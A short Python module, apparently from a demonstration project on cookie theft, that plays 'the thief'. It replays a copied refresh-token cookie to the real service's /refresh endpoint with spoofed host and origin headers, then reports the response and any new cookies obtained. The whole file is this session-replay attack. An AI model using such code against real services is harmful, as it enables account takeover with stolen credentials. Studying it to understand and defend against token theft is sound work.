"""The thief: another HTTP client, which sends a copy of the visitor's card to the real service."""

from __future__ import annotations

import http.client
from typing import Any

from ..domain.issuer import Issuer
from .cards import Cards, shorten_tokens

_TIMEOUT_S = 10.0
_SHOWN = ("content-type", "www-authenticate", "cache-control", "set-cookie")


def renew_with(card: str, cards: Cards, *, issuer: Issuer, address: tuple[str, int]) -> dict[str, Any]:
    """Refresh with a copied card at `address`; return the request and the answer as text, with tokens shortened.

    Script in a browser could not send this cookie. A program can send any header, including the service's own origin.
    """
    headers = {
        "host": issuer.origin.partition("://")[2],
        "origin": issuer.origin,
        "user-agent": "thief/1.0",
        "cookie": f"{cards.cookie}={card}",
    }
    connection = http.client.HTTPConnection(*address, timeout=_TIMEOUT_S)
    try:
        connection.request("POST", "/refresh", headers=headers)
        answer = connection.getresponse()
        received = [(name.lower(), value) for name, value in answer.getheaders()]
        body = answer.read().decode()
    finally:
        connection.close()
    set_cookie = [value for name, value in received if name == "set-cookie"]
    return {
        "status": answer.status,
        "reason": answer.reason,
        "sent": [shorten_tokens(f"{name}: {value}") for name, value in headers.items()],
        "received": [shorten_tokens(f"{name}: {value}") for name, value in received if name in _SHOWN],
        "body": shorten_tokens(body),
        "overheard": cards.describe_cookies(card, set_cookie),
    }
